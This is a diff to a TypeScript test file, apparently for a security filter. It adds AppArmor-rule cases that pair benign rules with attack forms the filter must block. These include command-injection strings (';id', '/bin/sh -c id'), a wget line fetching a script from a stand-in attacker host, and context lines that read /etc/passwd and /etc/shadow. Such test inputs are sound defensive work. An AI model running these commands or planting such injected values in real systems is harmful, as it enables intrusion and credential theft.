@@ -1,6 +1,7 @@
 // Constructs that are attacks only in one of their forms (scripts/probe-docs.ts found the benign ones in
-// glibc locale sources, fontconfig and D-Bus files, JDK properties files). Each benign case passes in every
-// carrier; beside it, the attack form of the same construct, which the same carrier must still block.
+// glibc locale sources, fontconfig and D-Bus files, JDK properties files, HTML pages, C and Rust documentation,
+// AppArmor profiles). Each benign case passes in every carrier; beside it, the attack form of the same
+// construct, which the same carrier must still block.
 import { beforeAll, describe, expect, it } from "vitest";
 import fc from "fast-check";
 import { loadHarness, type Harness } from "../support/harness.js";
@@ -148,6 +149,23 @@ const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] =
       ["```js require('fs').readFileSync('/etc/passwd')", 10130],
       ["```js const cp = require('child_process');", 10130],
       ["x = require ( 'fs' ) .readFileSync('/etc/shadow')", 10130],
+    ],
+  },
+  {
+    // 4103: a program path, one token of access modes and `,`: a rule of an AppArmor profile (/etc/apparmor.d)
+    name: "an AppArmor rule naming a program",
+    benign: [
+      "/usr/bin/nroff rm,",
+      "/usr/bin/groff rmCx -> &groff_child,",
+      "/bin/dash ix,",
+    ],
+    attacks: [
+      ["/usr/bin/id", 4103],
+      ["/usr/bin/id,", 4103],
+      ["/bin/sh -c id,", 4103],
+      ["/bin/sh rx, ;id", 4103],
+      ["/usr/bin/wget http://attacker.test/x.sh,", 4103],
+      [";/usr/bin/id r,", 4103],
     ],
   },
 ];
